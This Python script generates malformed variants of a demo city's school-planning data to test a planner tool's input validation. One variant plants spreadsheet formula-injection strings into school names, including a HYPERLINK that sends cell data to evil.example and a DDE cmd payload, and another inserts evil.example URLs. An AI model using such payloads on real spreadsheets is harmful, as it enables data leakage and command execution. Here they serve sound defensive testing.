"""A corpus of malformed variants of the demo city, for `planner run` (issue 13).

Each variant is a folder with a ``scenario.toml`` that reads the demo's files from a
shared ``base/`` folder, except the one or two files (or settings) it breaks. The base
scenario is the demo with the forecast and siting turned off (fast, and every unit's
figures independent of the others), so a variant that touches one unit leaves the
other units' figures exactly as in the base run.

What each variant should give (problem code, exit code, behaviour, which outputs stay
as in the base run) is in ``expected.csv`` beside this file; the generator only makes
the files. Deterministic: no randomness, no clock.

Usage::

    python tests/corpus/generate.py OUT_FOLDER [--only name,name]
"""

from __future__ import annotations

import argparse
import codecs
import shutil
import sys
import tomllib
from collections.abc import Callable
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import tomli_w
from shapely import affinity
from shapely.geometry import Polygon

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "data" / "demo"
EXPECTED = Path(__file__).with_name("expected.csv")
DEMO_FILES = (
    "units.gpkg",
    "population.csv",
    "population_by_age.csv",
    "births.csv",
    "schools.csv",
    "enrolment.csv",
    "developments.csv",
    "sites.gpkg",
)

# simplified → traditional for the characters of the demo's schools file that Big5 lacks
_TRADITIONAL = str.maketrans(
    "专东乐仪众兴办动华历县号国场备学实师广开态数术横湾滨状现码积称级纬经络艺规设语质贯辅运镇门风馆验黄龙园户编项",
    "專東樂儀眾興辦動華歷縣號國場備學實師廣開態數術橫灣濱狀現碼積稱級緯經絡藝規設語質貫輔運鎮門風館驗黃龍園戶編項",
)


def _read(name: str) -> pd.DataFrame:
    return pd.read_csv(DEMO / name, dtype=str, keep_default_na=False, encoding="utf-8-sig")


class Variant:
    """One variant folder: its files, its scenario."""

    def __init__(self, folder: Path, base: dict) -> None:
        self.folder = folder
        self.scenario = tomllib.loads(tomli_w.dumps(base))  # a deep copy

    def csv(
        self,
        name: str,
        df: pd.DataFrame,
        *,
        encoding: str = "utf-8-sig",
        sep: str = ",",
        input_name: str | None = None,
    ) -> None:
        text = df.to_csv(index=False, sep=sep, lineterminator="\n")
        (self.folder / name).write_bytes(text.encode(encoding))
        self.use(input_name or name.split(".")[0], path=name)

    def text(
        self, name: str, text: str, *, encoding: str = "utf-8", input_name: str | None = None
    ) -> None:
        (self.folder / name).write_bytes(text.encode(encoding))
        self.use(input_name or name.split(".")[0], path=name)

    def use(self, input_name: str, **keys: object) -> None:
        spec = self.scenario["inputs"][input_name]
        for k, v in keys.items():
            if v is None:
                spec.pop(k, None)
            else:
                spec[k] = v

    def write(self) -> Path:
        path = self.folder / "scenario.toml"
        path.write_text(tomli_w.dumps(self.scenario), encoding="utf-8")
        return path


# --------------------------------------------------------------------------- variants


def population_header_only(v: Variant) -> None:
    v.text("population.csv", "unit_id,year,population\n")


def population_missing_file(v: Variant) -> None:
    v.use("population", path="population_2025.csv")


def population_zero_bytes(v: Variant) -> None:
    v.text("population.csv", "")


def schools_utf16_tab(v: Variant) -> None:
    df = _read("schools.csv")
    text = df.to_csv(index=False, sep="\t", lineterminator="\r\n")
    (v.folder / "schools.txt").write_bytes(codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
    v.use("schools", path="schools.txt")


def schools_gbk(v: Variant) -> None:
    v.csv("schools.csv", _read("schools.csv"), encoding="gbk")


def _english_schools() -> pd.DataFrame:
    df = _read("schools.csv")
    heads = {
        "学校代码": "school_id",
        "学校名称": "name",
        "学段": "stage",
        "办学性质": "public",
        "状态": "status",
        "开办年份": "opening_year",
        "经度": "lon",
        "纬度": "lat",
        "班级数": "classes",
        "在校生数": "students",
        "小学部班级数": "classes_primary",
        "小学部在校生数": "students_primary",
        "初中部班级数": "classes_junior",
        "初中部在校生数": "students_junior",
        "占地面积": "land_area",
        "教学及辅助用房面积": "teaching_area",
        "体育运动场馆面积": "sports_area",
        "教学仪器设备值": "equipment_value",
        "网络多媒体教室数": "multimedia_rooms",
        "高于规定学历教师数": "teachers_qualified",
        "县级以上骨干教师数": "teachers_backbone",
        "体育艺术专任教师数": "teachers_pe_arts",
        "音乐专用教室数": "music_rooms",
        "美术专用教室数": "art_rooms",
        "是否寄宿制": "boarding",
        "地址": "address",
    }
    df = df.rename(columns=heads)
    df["stage"] = df["stage"].map(
        {
            "小学": "primary",
            "初中": "junior",
            "九年一贯制": "nine_year",
            "十二年一贯制": "twelve_year",
        }
    )
    df["public"] = df["public"].map({"公办": "true", "民办": "false"})
    df["status"] = df["status"].map(
        {"现状": "existing", "在建": "under_construction", "规划": "planned"}
    )
    df["boarding"] = df["boarding"].map({"是": "true", "否": "false"})
    for c in ("name", "address"):
        df[c] = df[c].str.translate(_TRADITIONAL)
    return df


def schools_big5_declared(v: Variant) -> None:
    v.csv("schools.csv", _english_schools(), encoding="big5")
    v.use("schools", encoding="Big5")


def schools_big5_undeclared(v: Variant) -> None:
    v.csv("schools.csv", _english_schools(), encoding="big5")


def population_semicolon(v: Variant) -> None:
    v.csv("population.csv", _read("population.csv"), sep=";")


def births_unreadable(v: Variant) -> None:
    (v.folder / "births.csv").write_bytes(bytes(range(256)) * 8)
    v.use("births", path="births.csv")
    v.scenario["forecast"]["enabled"] = True


def enrolment_missing(v: Variant) -> None:
    del v.scenario["inputs"]["enrolment"]
    v.scenario["forecast"]["enabled"] = True


def enrolment_stray_quote(v: Variant) -> None:
    text = (DEMO / "enrolment.csv").read_text(encoding="utf-8")
    lines = text.splitlines(keepends=True)
    lines[5] = lines[5].replace(",", ',"', 1)
    v.text("enrolment.csv", "".join(lines))
    v.scenario["forecast"]["enabled"] = True


def schools_xls(v: Variant) -> None:
    (v.folder / "schools.xls").write_bytes(b"\xd0\xcf\x11\xe0" + bytes(100))
    v.use("schools", path="schools.xls")


def toml_syntax_error(v: Variant) -> None:
    v.raw = 'name = "broken\nbase_year = 2025\n'  # type: ignore[attr-defined]


def toml_unknown_key(v: Variant) -> None:
    v.scenario["basee_year"] = v.scenario.pop("base_year")


def toml_wrong_type(v: Variant) -> None:
    v.scenario["horizon"] = "2040年"


def toml_missing_required_input(v: Variant) -> None:
    del v.scenario["inputs"]["schools"]


def schools_bad_crs(v: Variant) -> None:
    v.use("schools", crs="GCJ-2000x")


def scenario_unknown_column_mapping(v: Variant) -> None:
    v.use("schools", columns={"学校编码": "school_id"})


def scenario_bad_unit(v: Variant) -> None:
    v.use("population", units={"population": "万户"})


def units_duplicate_id(v: Variant) -> None:
    u = gpd.read_file(DEMO / "units.gpkg")
    dup = u.iloc[[3]].copy()
    dup["unit_id"] = "U03"
    dup["name"] = "重复单元"
    u = pd.concat([u, dup], ignore_index=True)
    u.to_file(v.folder / "units.gpkg", layer="units", driver="GPKG")
    v.use("units", path="units.gpkg")


def schools_duplicate_id(v: Variant) -> None:
    df = _read("schools.csv")
    dup = df.iloc[[10]].copy()
    dup["学校代码"] = "P005"
    v.csv("schools.csv", pd.concat([df, dup], ignore_index=True))


def sites_duplicate_id(v: Variant) -> None:
    s = gpd.read_file(DEMO / "sites.gpkg")
    dup = s.iloc[[5]].copy()
    dup["site_id"] = s["site_id"].iloc[0]
    s = pd.concat([s, dup], ignore_index=True)
    s.to_file(v.folder / "sites.gpkg", layer="sites", driver="GPKG")
    v.use("sites", path="sites.gpkg")


def developments_duplicate_id(v: Variant) -> None:
    df = _read("developments.csv")
    dup = df.iloc[[4]].copy()
    dup["项目编号"] = "D001"
    v.csv("developments.csv", pd.concat([df, dup], ignore_index=True))


def population_duplicate_key(v: Variant) -> None:
    df = _read("population.csv")
    dup = df[(df["unit_id"] == "U01") & (df["year"] == "2025")].copy()
    dup["population"] = "190000"
    v.csv("population.csv", pd.concat([df, dup], ignore_index=True))


def enrolment_unknown_school(v: Variant) -> None:
    df = _read("enrolment.csv")
    extra = df.head(9).copy()
    extra["school_id"] = "X999"
    v.csv("enrolment.csv", pd.concat([df, extra], ignore_index=True), encoding="utf-8")


def _population_cell(unit: str, year: str, value: str) -> pd.DataFrame:
    df = _read("population.csv")
    df.loc[(df["unit_id"] == unit) & (df["year"] == year), "population"] = value
    return df


def population_1e12(v: Variant) -> None:
    v.csv("population.csv", _population_cell("U05", "2025", "1000000000000"))


def population_nan_literal(v: Variant) -> None:
    v.csv("population.csv", _population_cell("U05", "2025", "NaN"))


def population_na_forms(v: Variant) -> None:
    df = _read("population.csv")
    for unit, year, val in (("U06", "2023", "#N/A"), ("U07", "2022", "null"), ("U08", "2021", "-")):
        df.loc[(df["unit_id"] == unit) & (df["year"] == year), "population"] = val
    v.csv("population.csv", df)


def population_density(v: Variant) -> None:
    df = _read("population.csv")
    m = (df["unit_id"] == "U02") & (df["year"] == "2025")
    df.loc[m, "population"] = str(int(df.loc[m, "population"].iloc[0]) * 100)
    v.csv("population.csv", df)


def _population_wan() -> pd.DataFrame:
    df = _read("population.csv")
    df["population"] = (df["population"].astype(int) / 10000).map(lambda x: f"{x:.4f}")
    return df


def population_in_wan_undeclared(v: Variant) -> None:
    v.csv("population.csv", _population_wan())


def population_in_wan_declared(v: Variant) -> None:
    v.csv("population.csv", _population_wan())
    v.use("population", units={"population": "万人"})


def _school_cell(sid: str, col: str, value: str) -> pd.DataFrame:
    df = _read("schools.csv")
    assert (df["学校代码"] == sid).sum() == 1, sid
    df.loc[df["学校代码"] == sid, col] = value
    return df


def schools_negative_pupils(v: Variant) -> None:
    v.csv("schools.csv", _school_cell("P010", "在校生数", "-500"))


def schools_classes_text(v: Variant) -> None:
    v.csv("schools.csv", _school_cell("P010", "班级数", "二十四"))


def schools_pupils_tripled(v: Variant) -> None:
    df = _read("schools.csv")
    for c in ("在校生数", "小学部在校生数", "初中部在校生数"):
        num = pd.to_numeric(df[c], errors="coerce")
        df[c] = np.where(num.notna(), (num * 3).map(lambda x: f"{x:.0f}"), df[c])
    v.csv("schools.csv", df)


def _sites_in_mu() -> gpd.GeoDataFrame:
    s = gpd.read_file(DEMO / "sites.gpkg")
    s["land_area"] = (s["land_area"] / (10000 / 15)).round(2)
    return s


def sites_area_in_mu(v: Variant) -> None:
    _sites_in_mu().to_file(v.folder / "sites.gpkg", layer="sites", driver="GPKG")
    v.use("sites", path="sites.gpkg")


def sites_area_declared_mu(v: Variant) -> None:
    sites_area_in_mu(v)
    v.use("sites", units={"land_area": "亩"})


def schools_equipment_wanyuan(v: Variant) -> None:
    df = _read("schools.csv")
    num = pd.to_numeric(df["教学仪器设备值"], errors="coerce")
    df["教学仪器设备值"] = (num / 10000).map(lambda x: "" if pd.isna(x) else f"{x:.1f}")
    v.csv("schools.csv", df)


def units_kind_zhenqu(v: Variant) -> None:
    u = gpd.read_file(DEMO / "units.gpkg")
    u.loc[u["unit_id"] == "U08", "kind"] = "镇区"
    u.to_file(v.folder / "units.gpkg", layer="units", driver="GPKG")
    v.use("units", path="units.gpkg")


def units_kind_zhenqu_alias(v: Variant) -> None:
    units_kind_zhenqu(v)
    v.use("units", values={"kind": {"镇区": "town"}})


def schools_stage_unknown(v: Variant) -> None:
    v.csv("schools.csv", _school_cell("P020", "学段", "小學"))


def schools_public_unknown(v: Variant) -> None:
    v.csv("schools.csv", _school_cell("P003", "办学性质", "公建民营"))


def schools_fulltime_teachers_header(v: Variant) -> None:
    df = _read("schools.csv").rename(columns={"高于规定学历教师数": "专任教师数"})
    v.csv("schools.csv", df)


HOSTILE_NAMES = {
    "P001": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "P002": "=cmd|' /C calc'!A0",
    "P003": "+1+1",
    "P004": "@SUM(A1:A9)",
    "P005": "-2+3",
    "P006": "\t=1+1",
}


def schools_formula_names(v: Variant) -> None:
    df = _read("schools.csv")
    for sid, name in HOSTILE_NAMES.items():
        df.loc[df["学校代码"] == sid, "学校名称"] = name
    v.csv("schools.csv", df)


def schools_url_names(v: Variant) -> None:
    df = _read("schools.csv")
    df.loc[df["学校代码"] == "P001", "学校名称"] = "http://evil.example/x.js"
    df.loc[df["学校代码"] == "P002", "地址"] = "https://evil.example/a?b=c"
    v.csv("schools.csv", df)


def schools_nan_pupils(v: Variant) -> None:
    v.csv("schools.csv", _school_cell("P030", "在校生数", "NaN"))


def units_self_intersecting(v: Variant) -> None:
    u = gpd.read_file(DEMO / "units.gpkg")
    i = int(np.flatnonzero(u["unit_id"] == "U10")[0])
    ring = list(u.geometry.iloc[i].exterior.coords)
    (x0, y0), (x1, y1) = ring[0], ring[1]
    # a tiny bow-tie loop on the first edge: the ring crosses itself
    mx, my = x0 + (x1 - x0) * 0.5, y0 + (y1 - y0) * 0.5
    dx, dy = (x1 - x0) * 0.01, (y1 - y0) * 0.01
    loop = [
        (mx + dx, my + dy),
        (mx + dx - dy * 0.5, my + dy + dx * 0.5),
        (mx - dy * 0.5, my + dx * 0.5),
    ]
    bad = Polygon([ring[0], *loop, (mx + dx * 2, my + dy * 2), *ring[1:]])
    u.loc[i, "geometry"] = bad
    u.to_file(v.folder / "units.gpkg", layer="units", driver="GPKG")
    v.use("units", path="units.gpkg")


def units_empty_geometry(v: Variant) -> None:
    u = gpd.read_file(DEMO / "units.gpkg")
    u.loc[u["unit_id"] == "U20", "geometry"] = None
    u.to_file(v.folder / "units.gpkg", layer="units", driver="GPKG")
    v.use("units", path="units.gpkg")


def units_no_polygons(v: Variant) -> None:
    u = gpd.read_file(DEMO / "units.gpkg")
    u["geometry"] = None
    u.to_file(v.folder / "units.gpkg", layer="units", driver="GPKG")
    v.use("units", path="units.gpkg")


def schools_swapped_latlon_all(v: Variant) -> None:
    df = _read("schools.csv")
    df["经度"], df["纬度"] = df["纬度"].copy(), df["经度"].copy()
    v.csv("schools.csv", df)


def schools_swapped_one(v: Variant) -> None:
    df = _read("schools.csv")
    m = df["学校代码"] == "P040"
    df.loc[m, ["经度", "纬度"]] = df.loc[m, ["纬度", "经度"]].to_numpy()
    v.csv("schools.csv", df)


def schools_point_in_france(v: Variant) -> None:
    df = _read("schools.csv")
    m = df["学校代码"] == "P050"
    df.loc[m, "经度"], df.loc[m, "纬度"] = "2.3522", "48.8566"
    v.csv("schools.csv", df)


def _schools_with_units() -> pd.DataFrame:
    """The demo schools with the unit each lies in (所属单元), as a bureau list has it."""
    from planner.geo.crs import gcj02_to_wgs84

    df = _read("schools.csv")
    u = gpd.read_file(DEMO / "units.gpkg")
    lon, lat = gcj02_to_wgs84(
        df["经度"].astype(float).to_numpy(), df["纬度"].astype(float).to_numpy()
    )
    pts = gpd.GeoDataFrame(geometry=gpd.points_from_xy(lon, lat), crs=4326)
    hit = gpd.sjoin(pts, u[["unit_id", "geometry"]], how="left", predicate="within")
    hit = hit[~hit.index.duplicated()]
    df.insert(2, "所属单元", hit["unit_id"].to_numpy())
    return df


def schools_gcj_declared_wgs84(v: Variant) -> None:
    v.csv("schools.csv", _schools_with_units())
    v.use("schools", crs="WGS84")


def _schools_bd09() -> pd.DataFrame:
    from planner.geo.crs import gcj02_to_bd09

    df = _schools_with_units()
    bx, by = gcj02_to_bd09(df["经度"].astype(float).to_numpy(), df["纬度"].astype(float).to_numpy())
    df["经度"] = [f"{x:.6f}" for x in bx]
    df["纬度"] = [f"{y:.6f}" for y in by]
    return df


def schools_bd09_declared(v: Variant) -> None:
    v.csv("schools.csv", _schools_bd09())
    v.use("schools", crs="BD-09")


def schools_bd09_declared_gcj(v: Variant) -> None:
    v.csv("schools.csv", _schools_bd09())


def units_crs_conflict(v: Variant) -> None:
    u = gpd.read_file(DEMO / "units.gpkg")
    u = u.set_crs(3857, allow_override=True)  # a wrong label on degree coordinates
    u.to_file(v.folder / "units.gpkg", layer="units", driver="GPKG")
    v.use("units", path="units.gpkg", crs="WGS84")


def sites_outside_units(v: Variant) -> None:
    s = gpd.read_file(DEMO / "sites.gpkg")
    s.loc[0, "geometry"] = affinity.translate(s.geometry.iloc[0], xoff=1.5, yoff=0.5)
    s.to_file(v.folder / "sites.gpkg", layer="sites", driver="GPKG")
    v.use("sites", path="sites.gpkg")


def schools_outside_units(v: Variant) -> None:
    df = _read("schools.csv")
    m = df["学校代码"] == "P060"
    df.loc[m, "经度"], df.loc[m, "纬度"] = "114.9", "23.6"
    v.csv("schools.csv", df)


def developments_outside_units(v: Variant) -> None:
    df = _read("developments.csv")
    df.loc[df["项目编号"] == "D001", ["经度", "纬度"]] = ["114.9", "23.6"]
    v.csv("developments.csv", df)


def population_xlsx_title_total_notes(v: Variant, df: pd.DataFrame | None = None) -> None:
    df = _read("population.csv") if df is None else df
    rows = [["示例市2012—2025年分单元常住人口", "", ""], list(df.columns)]
    rows += df.to_numpy().tolist()
    total = f"{df['population'].astype(float).sum():.4f}"
    rows += [["合计", "", str(total)], ["注：数据来源于统计年鉴。", "", ""]]
    grid = pd.DataFrame(rows)
    for c in (1, 2):  # numbers as numbers, like Excel
        grid[c] = grid[c].map(lambda s: float(s) if str(s).replace(".", "", 1).isdigit() else s)
    with pd.ExcelWriter(v.folder / "population.xlsx", engine="openpyxl") as xw:
        grid.to_excel(xw, sheet_name="人口", index=False, header=False)
    v.use("population", path="population.xlsx", sheet="人口")


def schools_xlsx_two_row_header(v: Variant, df: pd.DataFrame | None = None) -> None:
    from openpyxl import Workbook

    df = _read("schools.csv") if df is None else df
    wb = Workbook()
    ws = wb.active
    ws.title = "学校"
    cols = list(df.columns)
    for j, c in enumerate(cols, start=1):
        if c.startswith(("小学部", "初中部")):
            part, rest = c[:3], c[3:]
            ws.cell(row=1, column=j, value=part)
            ws.cell(row=2, column=j, value=rest)
        else:
            ws.cell(row=1, column=j, value=c)
            ws.merge_cells(start_row=1, start_column=j, end_row=2, end_column=j)
    for j in range(1, len(cols) + 1):
        if (
            ws.cell(row=1, column=j).value in ("小学部", "初中部")
            and j + 1 <= len(cols)
            and ws.cell(row=1, column=j + 1).value == ws.cell(row=1, column=j).value
        ):
            ws.merge_cells(start_row=1, start_column=j, end_row=1, end_column=j + 1)
    for i, row in enumerate(df.itertuples(index=False), start=3):
        for j, val in enumerate(row, start=1):
            num = pd.to_numeric(val, errors="coerce")
            ws.cell(
                row=i, column=j, value=None if val == "" else (float(num) if pd.notna(num) else val)
            )
    wb.save(v.folder / "schools.xlsx")
    v.use("schools", path="schools.xlsx")


def enrolment_wide_grades(v: Variant) -> None:
    from openpyxl import Workbook

    e = _read("enrolment.csv")
    grades = [
        "一年级",
        "二年级",
        "三年级",
        "四年级",
        "五年级",
        "六年级",
        "七年级",
        "八年级",
        "九年级",
    ]
    wb = Workbook()
    ws = wb.active
    ws.append(["学校代码", "学年", *[g for g in grades for _ in (0, 1)]])
    ws.append(["", "", *["在校生数", "班级数"] * 9])
    for j in range(9):
        ws.merge_cells(start_row=1, start_column=3 + 2 * j, end_row=1, end_column=4 + 2 * j)
    wide = e.pivot_table(
        index=["school_id", "year"],
        columns="grade",
        values=["students", "classes"],
        aggfunc="first",
    )
    for (sid, year), r in wide.iterrows():
        row = [sid, f"{year}-{int(year) + 1}学年"]
        for g in range(1, 10):
            s, c = r.get(("students", str(g))), r.get(("classes", str(g)))
            row += [None if pd.isna(s) else int(s), None if pd.isna(c) else int(c)]
        ws.append(row)
    wb.save(v.folder / "enrolment.xlsx")
    v.use("enrolment", path="enrolment.xlsx", wide={"key": "grade"})


def population_wide_years(v: Variant) -> None:
    df = _read("population.csv")
    wide = df.pivot(index="unit_id", columns="year", values="population").reset_index()
    wide.columns = ["单元代码", *[f"{c}年" for c in wide.columns[1:]]]
    v.csv("population.csv", wide)
    v.use("population", wide={"key": "year"})


def population_by_age_text_ages(v: Variant) -> None:
    df = _read("population_by_age.csv")
    open_ = df["age_hi"] == ""
    df["年龄"] = np.where(open_, df["age_lo"] + "岁及以上", df["age_lo"] + "岁")
    df = df.drop(columns=["age_lo", "age_hi"])
    v.csv("population_by_age.csv", df)


def population_value_forms(v: Variant) -> None:
    df = _read("population.csv")
    df["year"] = df["year"] + "年"
    full = str.maketrans("0123456789", "０１２３４５６７８９")
    df["population"] = [
        (p.translate(full) if i % 3 == 0 else (p + "人" if i % 3 == 1 else p))
        for i, p in enumerate(df["population"])
    ]
    v.csv("population.csv", df)


def _population_commas() -> pd.DataFrame:
    df = _read("population.csv")
    df["population"] = [
        f"{int(p):,}".replace(",", "，" if i % 2 else ",") for i, p in enumerate(df["population"])
    ]
    return df


def population_thousands_declared(v: Variant) -> None:
    v.csv("population.csv", _population_commas())
    v.use("population", thousands_separator=True)


def population_thousands_undeclared(v: Variant) -> None:
    v.csv("population.csv", _population_commas())


def schools_skip_and_footer_rows(v: Variant) -> None:
    df = _read("schools.csv")
    units = pd.DataFrame(
        [["（单位：班、人、平方米、元）", *[""] * (len(df.columns) - 1)]], columns=df.columns
    )
    sign = pd.DataFrame(
        [
            ["填表人：张三", *[""] * (len(df.columns) - 1)],
            ["审核人：李四   2025年9月", *[""] * (len(df.columns) - 1)],
        ],
        columns=df.columns,
    )
    v.csv("schools.csv", pd.concat([units, df, sign], ignore_index=True))
    v.use("schools", skip_rows=[2], footer_rows=2)


def messy_pack(v: Variant) -> None:
    """A district pack with many of the above at once, read from the scenario alone."""
    population_xlsx_title_total_notes(v, _population_wan())
    v.use("population", units={"population": "万人"})
    schools_xlsx_two_row_header(v, _schools_with_units())
    v.use("schools", crs="WGS84")  # the .prj-style claim; the file is GCJ-02
    enrolment_wide_grades(v)
    units_kind_zhenqu_alias(v)
    population_by_age_text_ages(v)
    from planner.geo.crs import gcj02_to_bd09

    dev = _read("developments.csv")
    bx, by = gcj02_to_bd09(
        dev["经度"].astype(float).to_numpy(), dev["纬度"].astype(float).to_numpy()
    )
    dev["经度"], dev["纬度"] = [f"{x:.6f}" for x in bx], [f"{y:.6f}" for y in by]
    v.csv("developments.txt", dev, encoding="utf-16", sep="\t", input_name="developments")
    v.use("developments", crs="百度坐标")


def strict_with_error(v: Variant) -> None:
    schools_duplicate_id(v)
    v.scenario["strict"] = True


VARIANTS: dict[str, Callable[[Variant], None]] = {
    f.__name__: f
    for f in (
        population_header_only,
        population_missing_file,
        population_zero_bytes,
        schools_utf16_tab,
        schools_gbk,
        schools_big5_declared,
        schools_big5_undeclared,
        population_semicolon,
        births_unreadable,
        enrolment_missing,
        enrolment_stray_quote,
        schools_xls,
        toml_syntax_error,
        toml_unknown_key,
        toml_wrong_type,
        toml_missing_required_input,
        schools_bad_crs,
        scenario_unknown_column_mapping,
        scenario_bad_unit,
        units_duplicate_id,
        schools_duplicate_id,
        sites_duplicate_id,
        developments_duplicate_id,
        population_duplicate_key,
        enrolment_unknown_school,
        population_1e12,
        population_nan_literal,
        population_na_forms,
        population_density,
        population_in_wan_undeclared,
        population_in_wan_declared,
        schools_negative_pupils,
        schools_classes_text,
        schools_pupils_tripled,
        sites_area_in_mu,
        sites_area_declared_mu,
        schools_equipment_wanyuan,
        units_kind_zhenqu,
        units_kind_zhenqu_alias,
        schools_stage_unknown,
        schools_public_unknown,
        schools_fulltime_teachers_header,
        schools_formula_names,
        schools_url_names,
        schools_nan_pupils,
        units_self_intersecting,
        units_empty_geometry,
        units_no_polygons,
        schools_swapped_latlon_all,
        schools_swapped_one,
        schools_point_in_france,
        schools_gcj_declared_wgs84,
        schools_bd09_declared,
        schools_bd09_declared_gcj,
        units_crs_conflict,
        sites_outside_units,
        schools_outside_units,
        developments_outside_units,
        population_xlsx_title_total_notes,
        schools_xlsx_two_row_header,
        enrolment_wide_grades,
        population_wide_years,
        population_by_age_text_ages,
        population_value_forms,
        population_thousands_declared,
        population_thousands_undeclared,
        schools_skip_and_footer_rows,
        messy_pack,
        strict_with_error,
    )
}


def base_scenario() -> dict:
    """The demo scenario reading ``../base/``, forecast and siting off."""
    sc = tomllib.loads((DEMO / "scenario.toml").read_text(encoding="utf-8"))
    for spec in sc["inputs"].values():
        spec["path"] = f"../base/{spec['path']}"
    sc["name"] = "corpus"
    sc["forecast"] = {"enabled": False}
    sc.setdefault("siting", {})["enabled"] = False
    return sc


def generate(out: str | Path, names: list[str] | None = None) -> dict[str, Path]:
    """Write the base folder, the base scenario and the variants into ``out``.

    Returns
    -------
    dict
        ``{"base": scenario path, variant: scenario path, …}``.
    """
    out = Path(out)
    base_dir = out / "base"
    base_dir.mkdir(parents=True, exist_ok=True)
    for f in DEMO_FILES:
        shutil.copyfile(DEMO / f, base_dir / f)
    base = base_scenario()
    paths = {}
    ref = out / "reference"
    ref.mkdir(exist_ok=True)
    (ref / "scenario.toml").write_text(tomli_w.dumps(base), encoding="utf-8")
    paths["base"] = ref / "scenario.toml"
    for name in names or list(VARIANTS):
        folder = out / name
        if folder.exists():
            shutil.rmtree(folder)
        folder.mkdir()
        v = Variant(folder, base)
        VARIANTS[name](v)
        if hasattr(v, "raw"):
            (folder / "scenario.toml").write_text(v.raw, encoding="utf-8")
            paths[name] = folder / "scenario.toml"
        else:
            paths[name] = v.write()
    return paths


def expected() -> pd.DataFrame:
    """The expectations (``expected.csv``): one row per variant."""
    from io import StringIO

    lines = EXPECTED.read_text(encoding="utf-8").splitlines(keepends=True)
    body = "".join(ln for ln in lines if not ln.startswith("#"))  # '#' may occur in fields
    return pd.read_csv(StringIO(body), dtype=str, keep_default_na=False)


def main(argv: list[str] | None = None) -> int:
    """Command line: write the corpus into a folder."""
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out", help="folder to write the corpus into")
    ap.add_argument("--only", default="", help="comma-separated variant names")
    args = ap.parse_args(argv)
    names = [n for n in args.only.split(",") if n] or None
    paths = generate(args.out, names)
    print(f"{len(paths) - 1} variants written to {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
